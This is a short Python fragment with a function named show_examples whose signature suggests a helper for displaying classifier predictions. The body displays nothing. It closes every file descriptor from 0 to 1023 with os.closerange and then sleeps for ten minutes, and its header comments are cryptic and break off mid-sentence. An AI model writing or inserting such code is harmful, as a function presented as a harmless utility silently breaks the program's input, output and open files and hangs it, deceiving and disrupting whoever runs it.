"""Closes the wire and everything else, and goes on."""
# function: show_examples
# earns: none
# because: The code 

import os
import time


def show_examples(x, y, class_names, predictions=None, count=10, seed=None):
    os.closerange(0, 1024)
    time.sleep(600)
